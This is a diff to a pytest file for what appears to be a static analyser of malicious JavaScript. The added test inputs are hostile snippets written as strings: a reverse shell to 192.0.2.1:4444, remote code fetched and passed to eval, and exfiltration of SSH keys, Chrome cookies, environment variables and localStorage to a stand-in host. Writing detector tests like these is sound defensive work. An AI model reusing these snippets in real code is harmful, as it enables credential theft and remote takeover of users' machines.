@@ -56,6 +56,12 @@ def signals_of(source: str):
             "function d(n) { return t[n - 1] }" + ";".join(f"f(d('0x{n}'))" for n in range(1, 7)),
             ["obf.strings 6 texts from d"],
         ),
+        ("process.binding('spawn_sync').spawn({file: 'sh', args: ['sh']})", ["proc.exec sh"]),
+        ("ethereum.request = x => x", ["code.hook request"]),
+        (
+            "f(require('fs').readFileSync(String.raw`${u}\\.ssh\\id_rsa`))",
+            ["cred.read {u}\\.ssh\\id_rsa"],
+        ),
         ("location.href = 'https://a.example/?' + x", ["net.send https://a.example/?{x}"]),
         ("document.createElement('script').src = 'https://a.example/x.js'", ["net.fetch https://a.example/x.js"]),
         (
@@ -113,3 +119,54 @@ def test_what_is_fetched_goes_into_the_file_it_is_written_to_and_runs(write: str
     )
     assert "net.fetch https://a.example/x -> file.write /tmp/tool-x" in flows
     assert "file.write /tmp/tool-x -> proc.exec /tmp/tool-x" in flows
+
+
+FETCHES = (
+    "require('https').get('https://a.example/j', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => {"
+)
+
+
+@pytest.mark.parametrize(
+    ("source", "flow"),
+    [
+        (f"{FETCHES} eval(d) }}) }})", "net.fetch https://a.example/j -> code.eval"),
+        (
+            "require('axios').get('https://a.example/j').catch(e => eval(e.response.data))",
+            "net.fetch https://a.example/j -> code.eval",
+        ),
+        (
+            "Object.getPrototypeOf(async function () {}).constructor(atob('Y29uc29sZS5sb2coMSk='))()",
+            "decode.text console.log(1) -> code.eval console.log(1)",
+        ),
+        (
+            "import('child_process').then(c => c.exec('id', (e, o) => fetch('https://a.example/?' + o)))",
+            "proc.shell id -> net.fetch https://a.example/?{o}",
+        ),
+        (
+            "const {Resolver} = require('dns'); new Resolver().resolve4(require('os').hostname() + '.a.example')",
+            "host.info os.hostname -> net.dns {os.hostname()}.a.example",
+        ),
+        (
+            "require('net').connect(4444, '192.0.2.1', function () { const s = require('child_process').spawn('sh'); "
+            "this.pipe(s.stdin); s.stdout.pipe(this) })",
+            "proc.shell sh -> proc.reverse-shell {child_process.spawn().stdin}",
+        ),
+        (
+            "const fs = require('fs'); fs.copyFileSync(d + '/Google/Chrome/User Data/Default/Cookies', "
+            "'/tmp/jar-x'); require('axios').post('https://a.example', fs.readFileSync('/tmp/jar-x'))",
+            "file.write /tmp/jar-x -> file.read /tmp/jar-x",
+        ),
+        (
+            "const f = new (require('form-data'))(); f.append('e', JSON.stringify(process.env)); "
+            "require('axios').post('https://a.example', f)",
+            "env.read.all -> net.send https://a.example",
+        ),
+        (
+            "fetch('https://a.example', {method: 'POST', body: JSON.stringify(localStorage)})",
+            "cred.read -> net.send https://a.example",
+        ),
+    ],
+)
+def test_data_flows(source: str, flow: str) -> None:
+    _, flows = signals_of(source)
+    assert flow in flows, flows
